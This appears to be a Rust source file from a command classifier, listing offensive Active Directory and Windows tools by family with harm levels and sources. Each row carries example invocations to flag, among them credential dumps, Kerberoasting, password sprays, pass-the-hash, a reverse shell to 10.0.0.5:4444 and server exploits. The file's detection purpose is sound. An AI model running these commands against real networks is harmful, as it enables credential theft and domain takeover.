//! Attack tools of Active Directory and Windows networks, and the
//! command-and-control servers, sprayers and floods of red teams' kits: one
//! row per tool family, so that a script run as `python3 NAME.py`,
//! `impacket-NAME` or `NAME.exe` is known by its name (`crate::program`
//! strips the extension and the packaging prefix).
//!
//! Sources: impacket's `examples/` directory (fortra/impacket at f133bb8,
//! each script's own description; the enumeration scripts, `lookupsid`,
//! `samrdump`, `rpcdump`, `GetADUsers`, `findDelegation`, `netview`..., are
//! left out: they read a directory any domain user may read), the tools'
//! repositories named in each row, and the two red-team sheets first read
//! in session 49 (A-poc/RedTeam-Tools, RistBS/Awesome-RedTeam-Cheatsheet),
//! whose misses named the gap: impacket's Kerberos and DPAPI scripts and a
//! dozen other kits' tools passed unasked.

use crate::programs::{always, P};
use crate::Harm::{Credential, Destructive, Evasion, Exfiltration, RemoteCode, SelfEscalation};
use crate::Level::{High, Medium};
use crate::{Program, Sub};

/// The table. Keep rows grouped by what the tools do.
pub const AD_ATTACKS: &[Program] = &[
    Program {
        names: &[
            "getuserspns", "getnpusers", "describeticket", "kintercept", "keylistattack",
            "targetedkerberoast", "getnthash", "asktgs", "kirbikator", "tgsrepcrack", "timeroast",
        ],
        source: "impacket examples (GetUserSPNs: Kerberoasting; GetNPUsers: AS-REP roasting; describeTicket: a ticket decrypted with its service's key; kintercept; keylistattack: KERB-KEY-LIST-REQ secrets), https://github.com/ShutdownRepo/targetedKerberoast, https://github.com/dirkjanm/PKINITtools (getnthash: an account's NT hash from its certificate's ticket), kekeo's asktgs and kirbikator (tickets requested with a forged one, injected), https://github.com/nidem/kerberoast (tgsrepcrack), https://github.com/SecuraBV/Timeroast (computer accounts' password hashes asked over NTP; ppnb, session 50); ATT&CK T1558.003, T1558.004, T1550.003",
        subs: &[Sub { words: &["!-h|--help"], harm: Credential, level: High, reason: "roasts, cracks, decrypts or injects Kerberos tickets (credential theft)" }],
        flagged: &[
            "GetUserSPNs.py corp.local/user:pass -dc-ip 10.0.0.1 -request",
            "impacket-GetNPUsers corp.local/ -usersfile users.txt -no-pass -format hashcat",
            "asktgs path/to/trust_ticket.kirbi CIFS/ps-dc.powershell.local",
            "python tgsrepcrack.py wordlist.txt 1-MSSQLSvc~sql01.corp.local~1433-CORP.LOCAL.kirbi",
        ],
        clean: &["GetUserSPNs.py -h"],
        ..P
    },
    Program {
        names: &["gettgt", "getst", "getpac", "ticketconverter", "gettgtpkinit"],
        source: "impacket examples getTGT and getST (a ticket requested with a password, hash or key; getST's -impersonate asks one in another user's name: S4U), getPac, ticketConverter (kirbi and ccache converted), https://github.com/dirkjanm/PKINITtools (gettgtpkinit: a ticket from a certificate); ATT&CK T1550.003, T1558",
        subs: &[Sub { words: &["!-h|--help"], harm: Credential, level: Medium, reason: "requests or converts Kerberos tickets that log in as the account elsewhere" }],
        flagged: &[
            "getTGT.py -dc-ip 10.0.0.1 corp.local/user:pass",
            "getST.py -k -impersonate Administrator corp.local/svc -spn cifs/dc01.corp.local",
        ],
        clean: &["getTGT.py -h"],
        ..P
    },
    Program {
        names: &[
            "dpapi", "dpapidump", "regsecrets", "get-gpppassword", "getlapspassword", "gmsadumper",
            "dploot", "donpapi", "pcredz", "adfspoof", "shocknawe", "dpapimk2john", "certsync",
            "laps", "laps-dumper", "iculeak", "physmem2profit", "spraykatz", "mscache", "masky",
        ],
        source: "impacket examples (dpapi: master keys, credentials and vaults decrypted; dpapidump: SYSTEM's DPAPI secrets of a remote host; regsecrets: SAM and LSA secrets read remotely; Get-GPPPassword; GetLAPSPassword), https://github.com/micahvandeusen/gMSADumper, https://github.com/zblurx/dploot, https://github.com/login-securite/DonPAPI, https://github.com/lgandx/PCredz (credentials carved from captures or an interface), https://github.com/mandiant/ADFSpoof and https://github.com/mandiant/shocknawe (AD FS signing keys: Golden SAML), John the Ripper's DPAPImk2john, https://github.com/zblurx/certsync (every account's hash, through certificates forged with the CA's key), https://github.com/n00py/LAPSDumper (laps.py: every computer's LAPS password), https://github.com/llt4l/iCULeak.py (credentials in Cisco phones' configuration files; ppnb, session 50), https://github.com/WithSecureLabs/physmem2profit (a remote host's physical memory read through a driver it installs, LSASS's credentials carved from it; ppnc, session 51), https://github.com/aas-n/spraykatz (LSASS dumped on many hosts at once and parsed), https://github.com/QAX-A-Team/mscache (cached domain logons from SYSTEM and SECURITY hives), https://github.com/Z4kSec/Masky (users' certificates requested through AD CS on their own hosts, their NT hashes from them; ppnd, session 51); ATT&CK T1555.004, T1552.006, T1003.004, T1606.002, T1649",
        subs: &[Sub { words: &["!-h|--help"], harm: Credential, level: High, reason: "dumps stored credentials (DPAPI, LAPS, GPP and gMSA passwords, AD FS keys, captured logins, a host's memory)" }],
        flagged: &[
            "dpapi.py masterkey -file mk -pvk backup_key.pvk",
            "dpapi.py backupkeys -t corp/admin:pass@10.0.0.1",
            "python3 gMSADumper.py -u user -p pass -d corp.local",
            "dploot backupkey -d waza.local -u Administrator -p 'Password!123' 192.168.56.112 -quiet",
            "python3 ./Pcredz -i eth0 -v",
            "python ADFSpoof.py -b EncryptedPfx.bin DKMkey.bin dump",
            "certsync -d megacorp.local -u user -p 'pass' -dc-ip 10.0.0.1",
            "python laps.py -d corp.local -u user -p pass",
            "python3 physmem2profit --host 10.0.0.1 --port 1337 --install C:/Windows/Temp/winpmem_x64.sys --mode all --driver winpmem",
            "python3 spraykatz.py -u user -p pass -t 10.0.0.1,10.0.0.2",
            "python mscache.py --system system.hive --security security.hive",
            "masky -d corp -u user -p pass -ca 'ca01.corp.local\\CorpCA' -dc-ip 10.0.0.1 10.0.0.5",
        ],
        clean: &["dpapi.py -h"],
        ..P
    },
    Program {
        names: &[
            "credmaster", "trevorspray", "sprayhound", "o365spray", "msolspray",
            "domainpasswordspray", "atomizer", "smartbrute", "onesixtyone", "adpwdspray", "pykerbrute",
            "adfsspray", "adfspray",
        ],
        source: "https://github.com/knavesec/CredMaster, https://github.com/blacklanternsecurity/TREVORspray (--recon only enumerates), https://github.com/Hackndo/sprayhound, https://github.com/0xZDH/o365spray, https://github.com/dafthack/MSOLSpray, https://github.com/dafthack/DomainPasswordSpray, https://github.com/byt3bl33d3r/SprayingToolkit (atomizer), https://github.com/ShutdownRepo/smartbrute (ppn, session 49), onesixtyone (SNMP community strings guessed against hosts; ppnb, session 50), https://github.com/3gstudent/pyKerbrute (ADPwdSpray.py: a password or NT hash sprayed over Kerberos pre-authentication; ppnd, session 51), https://github.com/xFreed0m/ADFSpray (passwords sprayed at ADFS, autodiscover and AD FS endpoints; ppnh, session 52); ATT&CK T1110.003",
        subs: &[Sub { words: &["!--recon|--enum|--validate|-h|--help"], harm: Credential, level: Medium, reason: "tests passwords against many accounts (a password spray)" }],
        flagged: &[
            "python3 ./trevorspray -u emails.txt -p 'Welcome123' --url https://login.windows.net/x/oauth2/token",
            "python3 credmaster.py --config config.json",
            "sprayhound -U users.txt -p Winter2024 -d corp.local -dc 10.0.0.1",
            "python2 ADPwdSpray.py 10.0.0.1 corp.local users.txt ntlmhash fc525c9683e8fe067095ba2ddc971889 udp",
            "python3 ADFSpray.py -U users.txt -p 'Passw0rd!' -t 'https://autodiscover.corp.com/autodiscover/autodiscover.xml' autodiscover",
        ],
        clean: &["python3 ./trevorspray --recon evilcorp.com", "python3 o365spray.py --validate --domain example.com"],
        ..P
    },
    // Session 65 (spn, SofianeHamlaoui/Pentest-Notes): the offensive
    // PowerShell kits' functions, run by name once their script is
    // dot-sourced or imported (`Invoke-Mimikatz`, `comps |
    // Invoke-BruteForce ...`), passed unasked, in bash and in `pwsh -c`.
    // Their enumeration functions (PowerView's Get-Domain*, PowerUp's
    // Invoke-AllChecks) are left out, as impacket's are.
    Program {
        names: &[
            "invoke-mimikatz", "invoke-kerberoast", "invoke-dcsync", "get-gppautologon",
            "get-lsasecret", "get-passhashes", "invoke-powerdump", "get-vaultcredential",
            "invoke-ninjacopy", "invoke-credentialinjection", "invoke-inveigh", "invoke-inveighrelay",
            "invoke-sessiongopher", "invoke-wcmdump", "get-wlan-keys", "invoke-internalmonologue",
            "out-minidump", "invoke-mimikittenz", "get-chromedump", "invoke-rubeus", "invoke-lazagne",
            "invoke-asreproast", "get-domainspnticket", "get-keystrokes", "invoke-sharpsecdump",
            "get-webcredentials", "get-lapspasswords", "invoke-tokenmanipulation",
        ],
        source: "https://github.com/PowerShellMafia/PowerSploit (Exfiltration: Invoke-Mimikatz, Invoke-NinjaCopy, Get-GPPAutologon, Get-VaultCredential, Get-Keystrokes, Out-Minidump, Invoke-TokenManipulation, Invoke-CredentialInjection; Recon: Invoke-Kerberoast, Get-DomainSPNTicket), https://github.com/samratashok/nishang (Gather: Get-LSASecret, Get-PassHashes, Invoke-PowerDump, Get-WLAN-Keys, Get-WebCredentials, Invoke-Mimikittenz, Get-ChromeDump), https://github.com/Kevin-Robertson/Inveigh, https://github.com/Arvanaghi/SessionGopher, https://github.com/eladshamir/Internal-Monologue, https://github.com/EmpireProject/Empire (Invoke-DCSync, Invoke-Rubeus, Invoke-WCMDump), https://github.com/HarmJ0y/ASREPRoast, https://github.com/kfosaaen/Get-LAPSPasswords; ATT&CK T1003, T1555, T1558, T1056.001",
        subs: &[Sub { words: &["!-h|--help|-?"], harm: Credential, level: High, reason: "runs an offensive PowerShell function that dumps, roasts, sniffs or steals credentials" }],
        flagged: &[
            "Invoke-Mimikatz -Command '\"sekurlsa::logonpasswords\"'",
            "powershell -c \"Invoke-Mimikatz -DumpCreds\"",
            "Invoke-Kerberoast -OutputFormat Hashcat | fl",
            "pwsh -c Invoke-Kerberoast",
            "Get-PassHashes",
            "Invoke-Inveigh -ConsoleOutput Y",
        ],
        clean: &["Invoke-Mimikatz -?"],
        ..P
    },
    Program {
        names: &[
            "invoke-bruteforce", "invoke-smbautobrute", "invoke-domainpasswordspray",
            "invoke-sprayemptypassword", "invoke-passwordsprayowa", "invoke-passwordsprayews",
            "invoke-passwordsprayeas", "invoke-spraysinglepassword", "invoke-ldapspray",
        ],
        source: "https://github.com/samratashok/nishang (Scan: Invoke-BruteForce), https://github.com/Mr-Un1k0d3r/RedTeamPowershellScripts (Invoke-SMBAutoBrute), https://github.com/dafthack/DomainPasswordSpray, https://github.com/dafthack/MailSniper (Invoke-PasswordSprayOWA, -EWS, -EAS), https://github.com/ZeroPointSecurity tradecraft (Invoke-SpraySinglePassword); ATT&CK T1110",
        subs: &[Sub { words: &["!-h|--help|-?"], harm: Credential, level: Medium, reason: "guesses passwords against accounts (a brute force or password spray)" }],
        flagged: &[
            "comps | Invoke-BruteForce -UserList C:\\dict\\users.txt -PasswordList C:\\dict\\passwords.txt -Service SQL -Verbose",
            "Invoke-DomainPasswordSpray -Password Winter2024",
            "Invoke-PasswordSprayOWA -ExchHostname mail.corp.com -UserList users.txt -Password Spring2024",
        ],
        clean: &["Invoke-DomainPasswordSpray -?"],
        ..P
    },
    Program {
        names: &[
            "invoke-powershelltcp", "invoke-powershelltcponeline", "invoke-powershelludp",
            "invoke-powershellicmp", "invoke-powershellwmi", "invoke-wmiexec", "invoke-smbexec",
            "invoke-thehash", "invoke-dcom", "invoke-shellcode", "invoke-reflectivepeinjection",
            "invoke-dllinjection", "invoke-psinject", "invoke-conptyshell", "invoke-sqloscmd",
            "invoke-psexec", "invoke-wmicommand", "invoke-smbclient", "invoke-jsratrundll",
            "invoke-jsratregsvr",
        ],
        source: "https://github.com/samratashok/nishang (Shells: Invoke-PowerShellTcp, -TcpOneLine, -Udp, -Icmp, -Wmi, Invoke-JSRatRundll, -Regsvr), https://github.com/Kevin-Robertson/Invoke-TheHash (Invoke-WMIExec, Invoke-SMBExec, Invoke-SMBClient, Invoke-TheHash: pass the hash), https://github.com/EmpireProject/Empire (Invoke-DCOM, Invoke-PsExec, Invoke-PSInject), https://github.com/PowerShellMafia/PowerSploit (CodeExecution: Invoke-Shellcode, Invoke-ReflectivePEInjection, Invoke-DllInjection, Invoke-WmiCommand), https://github.com/antonioCoco/ConPtyShell, https://github.com/NetSPI/PowerUpSQL (Invoke-SQLOSCmd); ATT&CK T1059.001, T1021, T1055, T1550.002",
        subs: &[Sub { words: &["!-h|--help|-?"], harm: RemoteCode, level: High, reason: "runs an offensive PowerShell function that opens a shell, runs code on another host or injects code into a process" }],
        flagged: &[
            "Invoke-PowerShellTcp -Reverse -IPAddress 10.0.0.5 -Port 4444",
            "Invoke-WMIExec -Target 10.0.0.1 -Domain corp -Username admin -Hash F6F38B793DB6A94BA04A52F1D3EE92F0 -Command whoami",
            "powershell -ep bypass -c \"Invoke-ConPtyShell 10.0.0.5 3001\"",
        ],
        clean: &["Invoke-PowerShellTcp -?"],
        ..P
    },
    Program {
        names: &[
            "invoke-serviceabuse", "write-servicebinary", "install-servicebinary", "write-hijackdll",
            "write-useraddmsi", "invoke-eventvwrbypass", "invoke-printnightmare", "invoke-nightmare",
            "add-domainobjectacl", "add-domaingroupmember", "set-domainuserpassword",
            "set-domainobject", "new-machineaccount", "add-persistence", "add-scrnsavebackdoor",
            "add-regbackdoor", "install-ssp", "new-userpersistenceoption",
            "new-elevatedpersistenceoption", "set-remotewmi", "add-remoteregbackdoor",
            "invoke-fodhelperbypass", "invoke-wscriptbypassuac",
        ],
        source: "https://github.com/PowerShellMafia/PowerSploit (Privesc/PowerUp: Invoke-ServiceAbuse, Write-ServiceBinary, Install-ServiceBinary, Write-HijackDll, Write-UserAddMSI; Recon/PowerView: Add-DomainObjectAcl, Add-DomainGroupMember, Set-DomainUserPassword, Set-DomainObject; Persistence: Install-SSP, New-UserPersistenceOption, New-ElevatedPersistenceOption), https://github.com/samratashok/nishang (Add-Persistence, Add-ScrnSaveBackdoor, Add-RegBackdoor, Set-RemoteWMI, Add-RemoteRegBackdoor, Invoke-WScriptBypassUAC), https://github.com/EmpireProject/Empire (Invoke-EventVwrBypass, Invoke-FodHelperBypass), https://github.com/calebstewart/CVE-2021-1675 (Invoke-Nightmare), https://github.com/Kevin-Robertson/Powermad (New-MachineAccount); ATT&CK T1543.003, T1574, T1548.002, T1098, T1547.005",
        subs: &[Sub { words: &["!-h|--help|-?"], harm: SelfEscalation, level: High, reason: "runs an offensive PowerShell function that escalates privileges, changes accounts' rights or plants persistence" }],
        flagged: &[
            "Invoke-ServiceAbuse -Name VulnSvc -UserName backdoor",
            "Add-DomainObjectAcl -TargetIdentity 'DC=corp,DC=local' -PrincipalIdentity user -Rights DCSync",
            "Invoke-Nightmare -NewUser john -NewPassword 'P@ss'",
        ],
        clean: &["Invoke-ServiceAbuse -?"],
        ..P
    },
    Program {
        names: &["changepasswd", "samedit", "badsuccessor", "raisechild", "privexchange", "wmipersist"],
        source: "impacket examples (changepasswd: an account's password changed or reset; samedit: a local user's password replaced in the SAM hive; badsuccessor: dMSA abuse; raiseChild: a child domain's admin raised to the forest's; wmipersist: a WMI event consumer that runs a script), https://github.com/dirkjanm/PrivExchange; ATT&CK T1098, T1546.003, T1484",
        subs: &[Sub { words: &["!-h|--help"], harm: SelfEscalation, level: High, reason: "changes Active Directory accounts or their rights (an escalation or persistence step)" }],
        flagged: &[
            "python3 privexchange.py -d corp -u user -p pass -ah 10.0.0.5 mx.corp.local",
            "raiseChild.py child.corp.local/admin:pass",
            "changepasswd.py corp.local/victim@dc01 -newpass 'N3w!' -altuser admin -altpass pass -reset",
        ],
        clean: &["raiseChild.py -h"],
        ..P
    },
    Program {
        names: &["certi"],
        source: "https://github.com/zer1t0/certi (req: a certificate requested, in another account's name from a vulnerable template; list: the templates and CAs enumerated; ppn, session 49; ppnb, session 50); ATT&CK T1649",
        subs: &[Sub { words: &["req"], harm: Credential, level: High, reason: "requests a certificate that logs in as an account (certificate theft)" }],
        flagged: &["certi.py req 'corp.local/user:pass@ca01.corp.local' corp-CA -k -n --alt-name administrator --template VulnTemplate"],
        clean: &["certi.py list corp.local/user -k -n --dc-ip 10.0.0.1 --class service"],
        ..P
    },
    Program {
        names: &["bloodyad"],
        source: "https://github.com/CravateRouge/bloodyAD (get reads the directory; add, set and remove write group members, rights, delegation, shadow credentials, passwords and owners; its older single-word commands setRbcd, addUser, changePassword, setDCSync... the same); ppnb, session 50; ATT&CK T1098, T1222.001",
        subs: &[Sub { words: &["add|set|remove|add*|set*|remove*|del*|change*"], harm: SelfEscalation, level: High, reason: "changes Active Directory objects, their rights or passwords (an escalation step)" }],
        value_opts: &["-d", "--domain", "-u", "--username", "-p", "--password", "--host", "--dc-ip", "-c", "--certificate", "-f", "--format", "-s", "--scheme", "--dns", "--timeout", "--gc-host"],
        fold_case: true,
        flagged: &[
            "bloodyAD -d corp.local -u user -p pass --host 10.0.0.1 add groupMember 'Domain Admins' user",
            "python bloodyAD.py -d corp.local -c ':dc01.pem' --host 10.0.0.1 setRbcd 'EVIL$' 'DC01$'",
        ],
        clean: &["bloodyAD -d corp.local -u user -p pass --host 10.0.0.1 get object Users"],
        ..P
    },
    Program {
        names: &["aclpwn"],
        source: "https://github.com/fox-it/aclpwn.py (walks a BloodHound path to domain admin and writes the ACLs on it; -dry only prints the path, --restore undoes a run's changes; ppn, session 49); ATT&CK T1222.001",
        subs: &[Sub { words: &["!-dry|--dry|-h|--help"], harm: SelfEscalation, level: High, reason: "changes Active Directory objects' access rights along a path to domain admin" }],
        flagged: &["aclpwn -f snovvcrash -ft user -t megacorp.local -tt domain -d megacorp.local -du neo4j -dp neo4j -u snovvcrash -p 'Passw0rd!'"],
        clean: &["python3 aclpwn.py -f user -ft user -d corp.local -dry"],
        ..P
    },
    Program {
        names: &["addcomputer"],
        source: "impacket's addcomputer (a machine account added to the domain: any user may add ten, the first step of resource-based delegation attacks); ATT&CK T1136.002",
        subs: &[Sub { words: &["!-h|--help"], harm: SelfEscalation, level: Medium, reason: "adds a machine account to Active Directory" }],
        flagged: &["addcomputer.py -computer-name 'EVIL$' -computer-pass 'P@ss' -dc-ip 10.0.0.1 corp.local/user:pass"],
        clean: &["addcomputer.py -h"],
        ..P
    },
    Program {
        names: &["addspn", "dnstool"],
        source: "https://github.com/dirkjanm/krbrelayx (addspn writes service names onto an account, -q/--query only shows them; dnstool adds, modifies or removes DNS records in the directory, its default action is add, --action query only reads one: ppnc, session 51); ATT&CK T1098",
        value_opts: &["-u", "--user", "-p", "--password", "-r", "--record", "-d", "--data", "-a", "--action", "-t", "--target", "-s", "--spn", "--dns-ip", "--zone", "--forest", "--legacy", "--ttl"],
        subs: &[Sub { words: &["!-h|--help", "!-q|--query", "!-a|--action query"], harm: SelfEscalation, level: Medium, reason: "adds service names or DNS records to Active Directory" }],
        flagged: &[
            "python3 dnstool.py -u 'corp\\user' -p pass -r evil.corp.local -a add -d 10.0.0.5 10.0.0.1",
            "python3 dnstool.py -u 'corp\\user' -p pass -r '*' -d 10.0.0.5 10.0.0.1",
            "addspn.py -u 'corp\\user' -p pass -s host/evil.corp.local dc01.corp.local",
        ],
        clean: &[
            "python dnstool.py -u 'corp\\user' -p pass -r wpad --action query dc01.corp.local",
            "addspn.py -u 'corp\\user' -p pass -q dc01.corp.local",
        ],
        ..P
    },
    Program {
        names: &["dacledit", "owneredit", "rbcd"],
        source: "impacket examples dacledit, owneredit and rbcd (-action read, the default, prints an object's DACL, owner or delegation; write, remove, flush and restore change them: ATT&CK T1222.001, T1134)",
        subs: &[Sub { words: &["-action write|remove|flush|restore"], harm: SelfEscalation, level: High, reason: "changes an Active Directory object's access rights (an escalation step)" }],
        flagged: &[
            "dacledit.py -action write -rights FullControl -principal user -target-dn 'DC=corp,DC=local' corp.local/user:pass",
            "rbcd.py -delegate-from 'EVIL$' -delegate-to 'DC01$' -action write corp.local/user:pass",
        ],
        clean: &["dacledit.py -target admin corp.local/user:pass", "rbcd.py -delegate-to 'DC01$' -action read corp.local/user:pass"],
        ..P
    },
    Program {
        names: &["pywhisker"],
        source: "https://github.com/ShutdownRepo/pywhisker (--action add writes a key credential onto an account: shadow credentials, ATT&CK T1556; list and info read)",
        subs: &[Sub { words: &["--action add|remove|clear|import|spray"], harm: SelfEscalation, level: High, reason: "adds a key credential to an account (shadow credentials)" }],
        flagged: &[
            "pywhisker.py -d corp.local -u user -p pass --target admin --action add",
            "python3 pywhisker.py -d corp.local -u user -p pass --target-list users.txt --action spray -v",
        ],
        clean: &["pywhisker.py -d corp.local -u user -p pass --target admin --action list"],
        ..P
    },
    Program {
        names: &["services"],
        source: "impacket examples services (another host's Windows services started, stopped, created, changed or deleted over MS-SCMR, with a login given as DOMAIN/user:password@host; list, status and config only read them; ppnc, session 51); ATT&CK T1569.002, T1543.003. The target is its first operand (`*@*`): a project's own services.py is not this",
        subs: &[Sub { words: &["*@*", "start|stop|create|change|delete"], harm: SelfEscalation, level: High, reason: "starts, stops or changes services on another host (impacket services.py)" }],
        flagged: &[
            "services.py Administrator:'Passw0rd!'@192.168.1.11 stop -name lanmanserver",
            "impacket-services corp.local/admin:pass@10.0.0.1 create -name svc -display svc -path 'C:\\x.exe'",
        ],
        clean: &["services.py corp.local/admin:pass@10.0.0.1 list", "python services.py start", "python3 services.py stop web"],
        ..P
    },
    Program {
        names: &["gpb"],
        source: "https://github.com/synacktiv/GroupPolicyBackdoor (gpo inject adds tasks and settings to a group policy, which every machine it applies to runs; gpo clean and restore rewrite it, links link and unlink attach it; gpo list, scope and enumerate only read; ppnc, session 51); ATT&CK T1484.001",
        subs: &[
            Sub { words: &["gpo", "inject|clean|restore|create|delete"], harm: SelfEscalation, level: High, reason: "changes a group policy (what every machine it applies to runs)" },
            Sub { words: &["links", "link|unlink"], harm: SelfEscalation, level: High, reason: "changes where a group policy applies" },
        ],
        flagged: &["python gpb.py gpo inject -d corp.local --dc dc01.corp.local -k --module modules_templates/ImmediateTask_create.ini --gpo-name VulnGPO"],
        clean: &["python gpb.py gpo list -d corp.local --dc dc01.corp.local -k"],
        ..P
    },
    Program {
        names: &["odat"],
        source: "https://github.com/quentinhardy/odat (Oracle Database Attacking Tool: its modules run operating system commands on the database server, write files there or open a reverse shell with --exec, --reverse-shell, --putFile; passwordguesser and all guess accounts' passwords; ppnc, session 51); ATT&CK T1505.001, T1110",
        subs: &[
            Sub { words: &["--exec|--reverse-shell|--putFile|--putLocalFile"], harm: RemoteCode, level: High, reason: "runs commands or writes files on a database server (odat)" },
            Sub { words: &["passwordguesser|all"], harm: Credential, level: Medium, reason: "guesses database accounts' passwords (odat)" },
            // passwordstealer --get-passwords prints the accounts' password
            // hashes (ppnh, session 52); --test-module only checks.
            Sub { words: &["passwordstealer", "!--test-module"], harm: Credential, level: High, reason: "reads the database accounts' password hashes (odat)" },
            // TNS poisoning (CVE-2012-1675): the listener is made to route
            // clients' sessions through this host (ppne, session 51);
            // --test-module only checks.
            Sub { words: &["tnspoison", "--poison"], harm: Credential, level: High, reason: "poisons an Oracle listener so that clients' sessions pass through this host (odat)" },
        ],
        flagged: &[
            "odat dbmsscheduler -s 10.10.13.37 -p 1521 -d SID -U sys -P 'Passw0rd!' --sysdba --exec '/usr/bin/python /tmp/1.py'",
            "odat passwordguesser -s 10.0.0.5 -d XE",
            "odat tnspoison -s 10.10.13.37 -d SID --poison",
            "odat passwordstealer -s 10.10.13.37 -p 1521 -d SID -U sys -P 'Passw0rd!' --sysdba --get-passwords",
        ],
        clean: &["odat sidguesser -s 10.0.0.5", "odat tnscmd -s 10.0.0.5 --ping", "odat tnspoison -s 10.10.13.37 -d SID --test-module"],
        ..P
    },
    Program {
        names: &["coercer", "petitpotam", "printerbug", "dementor", "krbrelayx", "shadowcoerce", "dfscoerce", "mirrordump"],
        source: "https://github.com/p0dalirius/Coercer, https://github.com/topotam/PetitPotam, krbrelayx's printerbug, dementor, impacket's smbrelayx, https://github.com/dirkjanm/krbrelayx, https://github.com/ShutdownRepo/ShadowCoerce, https://github.com/Wh04m1001/DFSCoerce (a host made to authenticate to this one, its login relayed or captured: ATT&CK T1187, T1557.001), https://github.com/CCob/MirrorDump (a listener that receives and parses LSASS dumps; ppn, session 49)",
        subs: &[Sub { words: &["!-h|--help"], harm: Credential, level: High, reason: "makes a host authenticate to this one and captures or relays its login" }],
        flagged: &["coercer coerce -u user -p pass -d corp.local -l 10.0.0.5 -t 10.0.0.1", "python3 PetitPotam.py 10.0.0.5 10.0.0.1"],
        clean: &["coercer -h"],
        ..P
    },
    Program {
        names: &["smbrelayx"],
        source: "impacket examples smbrelayx (an SMB server that relays the logins of clients that connect to the host given with -h, and runs -c's command there: ATT&CK T1557.001; its options are getopt's, so -h names the host; rttb, session 50)",
        subs: &[Sub { words: &["!--help"], harm: Credential, level: High, reason: "makes a host authenticate to this one and captures or relays its login" }],
        flagged: &["smbrelayx.py -h 10.0.0.6 -c \"ipconfig\""],
        clean: &["smbrelayx.py --help"],
        ..P
    },
    Program {
        // httptunnel's Windows builds (cgod, session 63).
        names: &["hts", "htc", "proxytunnel", "httptunnel_client", "httptunnel_server"],
        source: "httptunnel's hts and htc (a TCP connection carried inside HTTP requests, past proxies and firewalls: https://github.com/larsbrinkhoff/httptunnel), proxytunnel (a connection tunnelled through an HTTPS proxy's CONNECT: https://github.com/proxytunnel/proxytunnel); ATT&CK T1572; rttb, session 50",
        subs: &[Sub { words: &["!--help|-h|--version|-V"], harm: Exfiltration, level: Medium, reason: "tunnels connections through HTTP or a proxy, around the network's egress controls" }],
        flagged: &["hts -F localhost:22 80", "htc -F 8080 192.168.1.15:80", "proxytunnel -p proxy.example:3128 -d 10.0.0.5:22 -a 5555"],
        clean: &["hts --help"],
        ..P
    },
    Program {
        names: &["goldenpac", "sambapipe", "proxylogon", "proxyshell", "pygpoabuse", "fbcli", "send_and_execute"],
        source: "impacket examples goldenPac (MS14-068: a forged PAC, then a SYSTEM shell on the target) and sambaPipe (CVE-2017-7494: a shared library uploaded and run), ProxyLogon/ProxyShell exploit scripts (CVE-2021-26855, CVE-2021-34473), https://github.com/Hackndo/pyGPOAbuse (a scheduled task that runs a command pushed through a group policy), FuzzBunch's command line (fbcli: DoublePulsar) and the MS17-010 scripts' send_and_execute (ppn, session 49); ATT&CK T1210, T1484.001",
        subs: &[Sub { words: &["!-h|--help"], harm: RemoteCode, level: High, reason: "exploits a server to run code on it" }],
        flagged: &["goldenPac.py corp.local/user:pass@dc01.corp.local", "python proxylogon.py 10.0.0.5 user@corp.local"],
        clean: &["goldenPac.py -h"],
        ..P
    },
    Program {
        names: &["smbpasswd"],
        source: "impacket examples smbpasswd (an account's password or NT hash changed over SMB's SAMR, with a login given as DOMAIN/user:password@host and -newpass or -newhashes; ppng, session 51); ATT&CK T1098. Samba's own smbpasswd(8) takes no DOMAIN/user@host target: as root its -a, -x, -e, -d, -n and -m add, delete, enable or disable an account, empty its password or make it a machine account (spn part 5, session 65: `smbpasswd -a username` passed)",
        value_opts: &["-r", "-U", "-c", "-D"],
        subs: &[
            Sub { words: &["*@*"], harm: SelfEscalation, level: High, reason: "changes an account's password or hash on another host (impacket smbpasswd.py)" },
            Sub { words: &["-a+|-x+|-e+|-d+|-n+|-m+"], harm: SelfEscalation, level: Medium, reason: "adds, deletes, enables or disables a Samba account (or empties its password)" },
        ],
        flagged: &["smbpasswd.py megacorp.local/j.doe:'Passw0rd!'@DC01.megacorp.local -newhashes :0123456789abcdef0123456789abcdef", "smbpasswd -a username", "sudo smbpasswd -x olduser", "smbpasswd -n guest"],
        clean: &["smbpasswd -h", "smbpasswd -r dc01 -U alice"],
        ..P
    },
    Program {
        names: &["nopac", "getdmsa"],
        source: "https://github.com/Ridter/noPac (CVE-2021-42278/42287: a machine account renamed to a DC's name, a ticket as any user, a shell or a DCSync), https://github.com/skelsec/minikerberos (examples/getDmsa.py: a delegated managed service account's ticket and keys, the BadSuccessor abuse); ppng, session 51; ATT&CK T1558, T1068",
        subs: &[Sub { words: &["!-h|--help"], harm: Credential, level: High, reason: "takes over a domain account's tickets or keys (noPac, BadSuccessor)" }],
        flagged: &["python3 noPac.py corp.local/user:'pass' -dc-host DC01 -dc-ip 10.0.0.1 --impersonate administrator -dump", "python3 minikerberos/examples/getDmsa.py 'kerberos+ccache://corp.local\\jdoe:tgt.ccache@10.0.0.1' 'mydmsa$@corp.local' --ccache /tmp/x.ccache"],
        clean: &["python3 noPac.py -h"],
        ..P
    },
    Program {
        names: &["sccmhunter", "mssql_shell", "ldap_shell"],
        source: "https://github.com/garrettfoster13/sccmhunter (admin: an interactive shell that runs commands and scripts on the site's managed clients), https://github.com/Alamot/code-snippets (mssql_shell.py: xp_cmdshell as a shell), https://github.com/PShlyundin/ldap_shell (an interactive shell that changes the directory: group members, passwords, delegation); ppng, session 51; ATT&CK T1072, T1505.001, T1098",
        subs: &[
            Sub { words: &["admin"], harm: RemoteCode, level: High, reason: "opens a shell that runs commands on the hosts SCCM manages (sccmhunter admin)" },
            Sub { words: &["!-h|--help|find|show|smb|http|dpapi|mssql|pxe|admin"], harm: SelfEscalation, level: Medium, reason: "opens an interactive shell on a database or directory server that runs commands or changes accounts" },
        ],
        flagged: &["sccmhunter.py admin -u sccm_admin -p 'Passw0rd!' -ip SCCM.corp.local", "python3 mssql_shell.py", "python3 -m ldap_shell -k -no-pass corp.local/user -dc-ip 10.0.0.1"],
        clean: &["sccmhunter.py find -u user -p pass -d corp.local -dc-ip 10.0.0.1", "sccmhunter.py show -all"],
        ..P
    },
    Program {
        names: &["barmie"],
        source: "https://github.com/NickstaDB/BaRMIe (Java RMI services: -enum lists what a registry exposes, -attack sends deserialization payloads that run a command on the server; ppnd, session 51); ATT&CK T1210",
        subs: &[Sub { words: &["-attack"], harm: RemoteCode, level: High, reason: "attacks a Java RMI service with deserialization payloads (code run on the server)" }],
        flagged: &["java -jar BaRMIe.jar -attack 10.10.13.37 1098"],
        clean: &["java -jar BaRMIe.jar -enum 10.10.13.37 1098"],
        ..P
    },
    Program {
        names: &["karmasmb"],
